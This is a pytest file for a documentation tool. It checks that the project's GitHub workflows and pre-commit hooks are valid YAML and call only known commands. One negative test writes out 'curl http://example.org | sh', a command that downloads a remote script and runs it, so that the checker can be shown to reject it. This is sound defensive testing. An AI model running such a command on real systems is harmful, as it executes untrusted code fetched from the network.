"""The GitHub workflows and pre-commit hooks are valid YAML and call only commands that exist here."""

from __future__ import annotations

import re
import shlex
from pathlib import Path

import pytest
import yaml

from mkdocs_pathways.cli import build_parser

from conftest import REPO

WORKFLOWS = sorted((REPO / ".github" / "workflows").glob("*.yml"))
EXTERNAL = {"sudo", "apt-get", "python", "mkdocs"}


def _subcommands() -> set[str]:
    parser = build_parser()
    actions = [a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction"]
    return set(actions[0].choices)  # type: ignore[attr-defined]


def _make_targets() -> set[str]:
    text = (REPO / "Makefile").read_text(encoding="utf-8")
    return set(re.findall(r"^([a-z][a-z-]*):", text, flags=re.MULTILINE))


def _check_command(command: str) -> None:
    words = shlex.split(command)
    if not words:
        return
    program = words[0]
    if program == "pathways":
        assert words[1] in _subcommands(), f"`{command}`: pathways has no subcommand {words[1]}"
        build_parser().parse_args(words[1:])  # exits (fails the test) on an unknown option
    elif program == "make":
        for target in words[1:]:
            assert target in _make_targets(), f"`{command}`: the Makefile has no target {target}"
    elif program == "mkdocs":
        assert words[1] in ("build", "serve", "gh-deploy"), command
    elif program == "python" and words[1:3] == ["-m", "pip"]:
        for word in words:
            if word.startswith("constraints"):
                assert (REPO / word).is_file(), f"`{command}`: no {word}"
    else:
        assert program in EXTERNAL, f"`{command}` calls {program}, which the project does not provide"


@pytest.mark.parametrize("path", WORKFLOWS, ids=[p.name for p in WORKFLOWS])
def test_workflow_is_valid_and_calls_real_commands(path: Path) -> None:
    workflow = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert workflow["name"] and workflow["jobs"]
    assert True in workflow or "on" in workflow  # PyYAML reads the key `on` as true
    runs = 0
    for job in workflow["jobs"].values():
        for step in job["steps"]:
            assert "uses" in step or "run" in step, step
            for command in re.split(r"&&|\|\||;|\n", step.get("run", "")):
                _check_command(command.strip())
                runs += bool(command.strip())
    assert runs >= 2


def test_check_workflow_annotates_pull_requests() -> None:
    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "check.yml").read_text(encoding="utf-8"))
    assert "pull_request" in workflow[True]
    commands = [s.get("run", "") for job in workflow["jobs"].values() for s in job["steps"]]
    assert any("pathways check --format github" in c for c in commands)
    assert any("mkdocs build --strict" in c for c in commands)
    assert any("make test" in c for c in commands)


def test_pages_workflow_deploys_from_main() -> None:
    workflow = yaml.safe_load((REPO / ".github" / "workflows" / "pages.yml").read_text(encoding="utf-8"))
    assert workflow[True]["push"]["branches"] == ["main"]
    uses = [s.get("uses", "") for job in workflow["jobs"].values() for s in job["steps"]]
    assert any(u.startswith("actions/deploy-pages") for u in uses)


def test_pre_commit_hooks_call_real_commands() -> None:
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    assert {h["id"] for h in hooks} == {"pathways-check", "pathways-check-strict"}
    for hook in hooks:
        _check_command(hook["entry"])
        assert hook["language"] == "python"


def test_the_command_check_can_fail() -> None:
    with pytest.raises(AssertionError):
        _check_command("pathways publish-everything")
    with pytest.raises(AssertionError):
        _check_command("make deploy")
    with pytest.raises(AssertionError):
        _check_command("curl http://example.org | sh")


def test_vscode_maps_the_schemas() -> None:
    import json

    settings = json.loads((REPO / ".vscode" / "settings.json").read_text(encoding="utf-8"))
    for schema in settings["yaml.schemas"]:
        assert (REPO / schema).is_file()
